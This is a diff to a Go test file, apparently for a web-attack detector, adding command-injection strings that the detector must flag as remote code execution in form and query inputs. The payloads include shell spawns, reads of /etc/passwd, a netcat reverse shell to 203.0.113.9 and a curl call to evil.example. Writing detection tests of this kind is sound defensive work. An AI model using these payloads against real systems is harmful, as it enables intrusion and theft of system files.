@@ -5,6 +5,11 @@ import "testing"
 func TestRCERuns(t *testing.T) {
 	recognises(t, RCE, Where{Place: InForm}, []string{
 		"x; ssh-agent /bin/sh",
+		";strings /etc/passwd",
+		";cat index.php",
+		"x; LESSOPEN='/bin/sh #' less /etc/passwd",
+		";$0<<<id",
+		"iex $x",
 		"x || nmap-helper --script-args 'os.execute(\"/bin/sh\")'",
 		"1 && ranger -c /bin/bash",
 		"nc 203.0.113.9 4444 -e sh",
@@ -54,6 +59,7 @@ func TestRCERuns(t *testing.T) {
 	recognises(t, RCE, Where{Place: InQuery}, []string{
 		"$(htop2 -d /tmp/x)",
 		"31`curl evil.example`",
+		"a && rlogin2 -l 'x' /tmp/a",
 		"1\ntimeout 5 /etc/x",
 	}, []string{
 		"$(document)", "$(Build.Reason)", "$(CC)", "ping", "a & b",
